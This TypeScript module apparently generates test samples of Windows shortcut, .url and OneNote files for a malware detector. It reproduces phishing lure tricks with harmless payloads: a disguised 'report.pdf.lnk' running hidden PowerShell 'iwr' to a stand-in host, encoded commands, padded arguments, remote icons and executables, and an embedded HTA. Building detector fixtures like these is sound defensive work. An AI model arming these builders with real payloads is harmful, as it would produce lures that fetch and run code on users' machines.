import { type Sample, sample, word } from './sample.ts'

const wide = (text: string) => {
  const length = Buffer.alloc(2)
  length.writeUInt16LE(text.length)
  return Buffer.concat([length, Buffer.from(text, 'utf16le')])
}

export interface ShortcutParts {
  readonly target: string
  readonly arguments: string
  readonly icon?: string
  readonly machine?: string
  readonly window?: number
  readonly attached?: Buffer
}

/** As Windows writes it, with no more than what is given. */
export function makeShortcut(parts: ShortcutParts): Buffer {
  const header = Buffer.alloc(76)
  header.writeUInt32LE(0x4c, 0)
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4)
  header.writeUInt32LE(0x08 | 0x20 | 0x80 | (parts.icon ? 0x40 : 0), 20)
  header.writeUInt32LE(parts.window ?? 1, 60)
  const tracker = Buffer.alloc(parts.machine ? 96 : 0)
  if (parts.machine) {
    tracker.writeUInt32LE(96, 0)
    tracker.writeUInt32LE(0xa0000003, 4)
    tracker.write(parts.machine.slice(0, 15), 16, 'latin1')
  }
  return Buffer.concat([
    header,
    wide(parts.target),
    wide(parts.arguments),
    ...(parts.icon ? [wide(parts.icon)] : []),
    tracker,
    Buffer.alloc(4),
    parts.attached ?? Buffer.alloc(0),
  ])
}

/** A section of OneNote with files in it. */
export function makeOneNote(files: readonly { name: string; content: Buffer }[]): Buffer {
  const parts = files.flatMap(({ name, content }) => {
    const head = Buffer.alloc(36)
    Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(head)
    head.writeBigUInt64LE(BigInt(content.length), 16)
    return [
      Buffer.from(`\0${name}\0`, 'utf16le'),
      head,
      content,
      Buffer.alloc(16 - (content.length % 8)),
    ]
  })
  const header = Buffer.alloc(1024)
  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex').copy(header)
  Buffer.from('3fdd9a101b91f549a5d01791edc8aed8', 'hex').copy(header, 48)
  const whole = Buffer.concat([header, ...parts])
  whole.writeBigUInt64LE(BigInt(whole.length), 196)
  return whole
}

const shell = `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\${word('power', 'shell.exe')}`
const command = 'C:\\Windows\\System32\\cmd.exe'

export const shortcutSamples = (): Sample[] => [
  sample(
    'report.pdf.lnk',
    'a command with an address',
    'shortcut.address-arguments',
    makeShortcut({
      target: shell,
      arguments: `-w hidden -c "iwr http://files.example.invalid/a"`,
      icon: 'C:\\Windows\\System32\\imageres.dll',
      machine: 'desktop-7',
    }),
  ),
  sample(
    'encoded.lnk',
    'an encoded command',
    'script.encoded-command',
    makeShortcut({
      target: shell,
      arguments: `-nop -enc ${Buffer.from('Write-Host "hello from example.invalid"', 'utf16le').toString('base64')}`,
    }),
  ),
  sample(
    'padded.lnk',
    'arguments out of sight',
    'shortcut.padded-arguments',
    makeShortcut({ target: command, arguments: `${' '.repeat(300)}/c echo hello`, window: 7 }),
  ),
  sample(
    'icon.lnk',
    'a picture on another machine',
    'shortcut.icon-remote',
    makeShortcut({ target: 'notes.txt', arguments: '', icon: '\\\\192.0.2.1\\share\\a.ico' }),
  ),
  sample(
    'long.lnk',
    'long arguments',
    'shortcut.long-arguments',
    makeShortcut({ target: command, arguments: `/c ${'echo hello & '.repeat(40)}` }),
  ),
  sample(
    'carrier.lnk',
    'something behind the end',
    'shortcut.attached',
    makeShortcut({ target: command, arguments: '/c echo', attached: Buffer.alloc(5_000, 'A') }),
  ),
  sample(
    'share.url',
    'a program on another machine',
    'shortcut.target-remote',
    '[InternetShortcut]\r\nURL=file://192.0.2.1/share/update.exe\r\n',
  ),
  sample(
    'notes.one',
    'a script in a notebook',
    'onenote.program',
    makeOneNote([{ name: 'Open.hta', content: Buffer.from('<html><script>1</script></html>') }]),
  ),
]
